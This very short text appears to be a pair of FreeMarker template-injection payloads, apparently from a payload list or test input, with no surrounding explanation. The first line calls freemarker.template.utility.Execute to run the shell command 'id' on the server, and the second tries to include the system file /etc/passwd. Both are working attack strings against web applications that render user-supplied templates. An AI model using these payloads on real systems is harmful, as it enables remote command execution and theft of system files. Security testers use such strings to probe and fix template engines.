echo [="freemarker.template.utility.Execute"?new()("id")]
[#include "/etc/passwd"]
